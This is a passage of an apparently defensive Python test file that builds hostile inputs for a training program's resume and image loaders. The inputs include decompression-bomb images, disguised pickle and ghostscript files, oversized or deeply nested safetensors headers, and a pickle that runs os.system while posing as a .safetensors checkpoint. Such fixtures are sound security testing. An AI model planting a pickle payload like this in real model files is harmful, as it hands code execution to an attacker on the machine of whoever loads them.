    FILES[f"image_{name.rpartition('.')[0].replace(' ', '_')}"] = make, ("data", "image")


for _name in (
    "claims 100000 by 100000.png",
    "claims 2**31 - 1 wide.png",
    "bomb of 64 million black pixels.png",
    "text bomb.png",
    "svg.png",
    "pickle.png",
    "ghostscript.jpg",
):
    image(_name)


# Runs to resume.


def checkpoint(sandbox, content, digest=None):
    digest = digest or hashlib.sha256(content).hexdigest()
    path = sandbox.input / "checkpoints" / f"{1:012d}-{digest}.safetensors"
    path.parent.mkdir()
    path.write_bytes(content)
    return sandbox.input


@hostile("resume")
def pickle_as_a_checkpoint(sandbox):
    return checkpoint(sandbox, pickle.dumps(Call(os.system, sandbox.command)))


@hostile("resume")
def checkpoint_of_gigabytes(sandbox):
    entry = {"dtype": "F32", "shape": [2**31], "data_offsets": [0, GIGABYTES]}
    return checkpoint(sandbox, tensors({"a": entry}, bytes(24)))


@hostile("resume")
def deeply_nested_checkpoint(sandbox):
    return checkpoint(sandbox, tensors({"__metadata__": {"state": "[" * 10**5}}))


@hostile("resume")
def checkpoint_without_state(sandbox):
    return checkpoint(sandbox, tensors({"__metadata__": {"state": "[]"}}))
